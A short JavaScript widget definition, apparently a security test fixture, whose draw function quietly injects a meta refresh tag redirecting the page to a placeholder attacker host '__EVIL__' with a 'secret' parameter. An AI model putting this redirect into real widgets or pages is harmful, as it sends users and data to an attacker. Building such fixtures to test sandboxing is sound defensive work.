vitrine.defineWidget({
  async draw(root) {
    root.append('drawn');
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0; url=__EVIL__/meta?secret';
    document.head.append(meta);
    return { summary: 'drawn' };
  },
});
